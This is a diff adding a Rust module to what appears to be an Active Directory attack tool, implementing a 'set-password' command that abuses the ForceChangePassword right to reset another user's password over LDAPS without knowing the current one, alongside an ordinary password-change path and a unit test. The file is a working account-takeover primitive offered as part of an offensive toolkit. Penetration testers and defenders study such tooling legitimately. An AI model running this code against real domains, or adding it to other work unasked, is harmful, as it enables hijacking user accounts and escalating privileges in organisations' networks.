@@ -0,0 +1,72 @@
+//! Password reset and change (`rusthound set-password`)
+//!
+//! With the ForceChangePassword right (User-Force-Change-Password extended right, GenericAll...) on one user,
+//! its password is reset with one replace of unicodePwd without knowing the current one. With `--old-pass`,
+//! the password is changed with one delete of the old unicodePwd and one add of the new one in the same
+//! modify, which any user can do on its own account. Both are only accepted by Active Directory over LDAPS
+//! and must follow the password policy of the domain.
+use colored::Colorize;
+use ldap3::Mod;
+use log::info;
+
+use crate::args::{Options, SetPasswordOptions};
+use crate::attack::computer::encode_unicode_pwd;
+use crate::attack::{connect, find_account, get_domain_dn, write, WriteOperation};
+use crate::errors::Result;
+
+/// Function to prepare the unicodePwd modifications: reset without the old password, change with it.
+pub fn prepare_password_mods(new_password: &str, old_password: Option<&str>) -> Vec<Mod<Vec<u8>>>
+{
+   let attribute = b"unicodePwd".to_vec();
+   match old_password {
+      Some(old_password) => vec![
+         Mod::Delete(attribute.to_owned(), vec![encode_unicode_pwd(old_password)].into_iter().collect()),
+         Mod::Add(attribute, vec![encode_unicode_pwd(new_password)].into_iter().collect()),
+      ],
+      None => vec![Mod::Replace(attribute, vec![encode_unicode_pwd(new_password)].into_iter().collect())],
+   }
+}
+
+/// Function to reset or change the password of the target user.
+pub async fn set_password(common_args: &Options, set_password_args: &SetPasswordOptions) -> Result<()>
+{
+   // Prompt the new password when not given in the command line
+   let new_password = match set_password_args.new_password.contains("not set") {
+      true => rpassword::prompt_password(format!("New password of {}: ", set_password_args.target))?,
+      false => set_password_args.new_password.to_owned(),
+   };
+   let old_password = Some(set_password_args.old_password.as_str()).filter(|password| !password.contains("not set"));
+
+   let domain_dn = get_domain_dn(&common_args.domain);
+   let mut ldap = connect(common_args).await?;
+   let target = find_account(&mut ldap, &domain_dn, &set_password_args.target, vec!["distinguishedName"]).await?;
+
+   let operation = WriteOperation {
+      add: false,
+      dn: target.dn.to_owned(),
+      mods: prepare_password_mods(&new_password, old_password),
+      sd_flags: None,
+      cleanup: format!("The previous password of {} can't be restored, to be reset by its owner", set_password_args.target),
+   };
+   write(&mut ldap, common_args, &operation).await?;
+   ldap.unbind().await?;
+   if !common_args.dry_run {
+      info!("Password of {} {}",
+         set_password_args.target.bold().green(),
+         if old_password.is_some() { "changed" } else { "reset" },
+      );
+   }
+   Ok(())
+}
+
+#[test]
+#[rustfmt::skip]
+pub fn test_prepare_password_mods() {
+   let reset = prepare_password_mods("Winter2024!", None);
+   assert_eq!(reset, vec![Mod::Replace(b"unicodePwd".to_vec(), vec![encode_unicode_pwd("Winter2024!")].into_iter().collect())]);
+
+   let change = prepare_password_mods("Winter2024!", Some("Summer2024!"));
+   assert_eq!(change.len(), 2);
+   assert_eq!(change[0], Mod::Delete(b"unicodePwd".to_vec(), vec![encode_unicode_pwd("Summer2024!")].into_iter().collect()));
+   assert_eq!(change[1], Mod::Add(b"unicodePwd".to_vec(), vec![encode_unicode_pwd("Winter2024!")].into_iter().collect()));
+}